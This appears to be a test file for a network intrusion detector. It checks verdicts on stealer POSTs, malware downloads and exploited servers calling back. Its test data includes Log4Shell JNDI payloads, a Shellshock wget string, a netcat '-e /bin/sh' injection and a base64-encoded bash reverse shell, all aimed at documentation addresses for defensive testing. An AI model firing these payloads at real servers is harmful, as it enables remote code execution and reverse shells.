"""Web requests of stealers, droppers and exploited servers; those of people, updaters, careful servers."""

import base64

import pytest

BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0"
FULL = "Host: portal.example\nAccept: */*\nAccept-Language: zh-CN\nAccept-Encoding: gzip"
VALUE = base64.b64encode(bytes(range(7, 200))).decode()


def post(
    event,
    host="dyn.duckdns.org",
    agent=BROWSER,
    headers="Host: x\nExpect: 100-continue",
    body=f"p={VALUE}",
    **more,
):
    return event(
        "http", http__request__method="POST", url__domain=host, url__path="/inc/10a5031d37bc79.php",
        user_agent__original=agent, taishi__http__headers=headers, http__request__body__content=body,
        http__request__mime_type="application/x-www-form-urlencoded", destination__port=80, **more,
    )  # fmt: skip


def get(
    event,
    kind="pe",
    host="203.0.113.7",
    agent="WinHTTP loader/1.0",
    path="/a.png",
    name="",
    headers="Host: x",
    **more,
):
    extra = {"http.response.body.type": kind, **({"http.response.file.name": name} if name else {})}
    return event(
        "http", extra=extra, http__request__method="GET", url__domain=host, url__path=path,
        url__original=path,
        user_agent__original=agent, taishi__http__headers=headers, destination__port=80,
        http__response__mime_type=more.pop("mime", "image/png"), **more,
    )  # fmt: skip


def test_a_stealer_that_plays_browser_is_named_with_its_reasons(event, hits):
    (hit,) = hits(post(event))
    assert (hit.rule, hit.threat, hit.level, hit.subject) == (
        "taishi.sequence.web-call",
        "compromised",
        "high",
        "10.0.0.9",
    )
    for word in ("冒充浏览器", "Expect", "动态域名"):
        assert word in hit.summary.zh


def test_a_browser_s_form_is_nothing(event, hits):
    assert hits(post(event, host="portal.example", headers=FULL, body="user=zhao&city=hefei")) == []


def test_one_trait_alone_is_nothing(event, hits):
    assert hits(post(event, host="203.0.113.7", headers=FULL, body="a=b")) == []


def test_a_call_inside_is_nothing(event, hits):
    assert hits(post(event, destination__ip="10.1.1.1")) == []


def test_a_report_about_the_host_suffices(event, hits):
    (hit,) = hits(post(event, host="portal.example", headers=FULL, extra={"http.request.survey": True}))
    assert hit.rule == "taishi.sequence.web-call"


@pytest.mark.parametrize(
    "fetched",
    [
        {"kind": "pe", "path": "/tab.png"},
        {"kind": "elf", "path": "/mips", "agent": "Wget/1.20", "mime": "application/octet-stream"},
        {"kind": "pe-xor", "host": "files.example", "path": "/x.bin"},
        {"kind": "class", "path": "/Exploit.class", "agent": "Java/1.8.0_51", "mime": "application/java-vm"},
        {"kind": "pe", "host": "files.example", "path": "/wp/gDR/", "agent": "vBKbaQgjyvRRbcgfvlsc",
         "name": "TfBXbg6gEAqeHio73.dll", "mime": "application/x-msdownload"},
    ],
)  # fmt: skip
def test_droppers(fetched, event, hits):
    (hit,) = hits(get(event, **fetched))
    assert (hit.rule, hit.threat) == ("taishi.sequence.web-download", "compromised")


@pytest.mark.parametrize(
    "fetched",
    [
        {"host": "dl.example", "path": "/setup.exe", "agent": BROWSER, "headers": FULL,
         "mime": "application/x-msdownload"},
        {"path": "/c/update.exe", "agent": "Microsoft-Delivery-Optimization/10.0",
         "mime": "application/octet-stream"},
        {"kind": "script", "host": "get.example", "path": "/install.sh", "agent": "curl/8.5",
         "mime": "text/plain"},
        {"kind": "png", "path": "/a.png"},
        {"destination__ip": "10.2.2.2", "host": "10.2.2.2", "path": "/setup.exe",
         "agent": BROWSER, "headers": FULL, "mime": "application/x-msdownload"},
    ],
)  # fmt: skip
def test_software_is_installed_without_a_word(fetched, event, hits):
    assert hits(get(event, **fetched)) == []


def test_zeek_s_own_reading_of_the_bytes_counts(event, hits):
    (hit,) = hits(
        event(
            "http", event__module="zeek", http__response__mime_type="application/x-dosexec",
            url__domain="203.0.113.7", url__path="/a.png", user_agent__original="certutil",
            destination__port=80,
        )
    )  # fmt: skip
    assert hit.rule == "taishi.sequence.web-download"


def test_a_stager_s_path_and_its_large_answer(event, hits):
    stage = event(
        "http", http__request__method="GET", url__domain="203.0.113.7", url__path="/aaa9",
        http__response__body__bytes=200_000, user_agent__original=BROWSER, destination__port=80,
        taishi__http__headers="Host: x",
    )  # fmt: skip
    (hit,) = hits(stage)
    assert "四字符路径" in hit.summary.zh


def attack(event, text, seconds=0.0):
    """Somebody outside asks a server of ours."""
    return event(
        "http", seconds, source__ip="203.0.113.66", destination__ip="10.0.0.80", url__original="/",
        url__path="/",
        user_agent__original=text, taishi__http__headers=f"User-Agent: {text}",
    )  # fmt: skip


def call(event, to, port, seconds, **more):
    return event("flow", seconds, source__ip="10.0.0.80", destination__ip=to, destination__port=port, **more)


def compromises(found):
    return [hit for hit in found if hit.threat == "compromised"]


B64 = base64.b64encode(b"bash -i >& /dev/tcp/198.51.100.5/9001 0>&1").decode()


@pytest.mark.parametrize(
    ("text", "to", "port"),
    [
        ("${jndi:ldap://198.51.100.5:1389/a}", "198.51.100.5", 1389),
        ("${${lower:j}ndi:${lower:r}mi://198.51.100.5:1099/a}", "198.51.100.5", 1099),
        (f"${{jndi:ldap://192.0.2.9:1389/Basic/Command/Base64/{B64}}}", "198.51.100.5", 9001),
        ("() { :;}; /bin/bash -c 'wget http://198.51.100.5:8000/x.sh'", "198.51.100.5", 8000),
        (";nc 198.51.100.5 4444 -e /bin/sh", "198.51.100.5", 4444),
        ("${jndi:ldap://192.0.2.9/a}", "203.0.113.66", 4444),
    ],
)
def test_a_server_that_does_as_told_is_compromised(text, to, port, event, hits):
    (hit,) = compromises(hits(call(event, to, port, 3), attack(event, text)))
    assert (hit.rule, hit.threat, hit.subject) == (
        "taishi.sequence.exploit-callback",
        "compromised",
        "10.0.0.80",
    )
    assert "203.0.113.66" in hit.attackers


def test_a_lookup_of_the_name_is_proof(event, hits):
    asked = event(
        "dns",
        1,
        source__ip="10.0.0.80",
        destination__ip="10.0.0.53",
        dns__question__name="x1.callback.example",
    )
    (hit,) = compromises(hits(attack(event, "${jndi:dns://x1.callback.example/a}"), asked))
    assert hit.subject == "10.0.0.80"


@pytest.mark.parametrize(
    ("text", "to", "port", "seconds"),
    [
        ("${jndi:ldap://198.51.100.5:1389/a}", "198.51.100.99", 1389, 3),
        ("${jndi:ldap://198.51.100.5:1389/a}", "198.51.100.5", 443, 3),
        ("${jndi:ldap://198.51.100.5:1389/a}", "198.51.100.5", 1389, 7200),
        ("${jndi:ldap://198.51.100.5:1389/a}", "198.51.100.5", 1389, -600),
        (BROWSER, "203.0.113.66", 443, 3),
        ("see http://198.51.100.5:1389/a", "198.51.100.5", 1389, 3),
    ],
)
def test_a_server_that_does_not_is_only_attacked(text, to, port, seconds, event, hits):
    assert compromises(hits(attack(event, text), call(event, to, port, seconds))) == []


@pytest.mark.parametrize(
    ("trace", "threat"),
    [
        ("nDPI__emotet.pcap", "compromised"),
        ("Malcolm-Te__0e328ab7-*.pcap", "compromised"),
        ("Malcolm-Te__f9421792-*.pcap", "compromised"),
        ("cve-2021-4__log4j-attack.pcap", "compromised"),
        ("Malcolm-Te__attempt-constructed.pcap", "attempted"),
        ("nDPI__sql_injection.pcap", "attempted"),
    ],
)
def test_traces(trace, threat, judged):
    assert judged(trace).verdicts[0].threat == threat
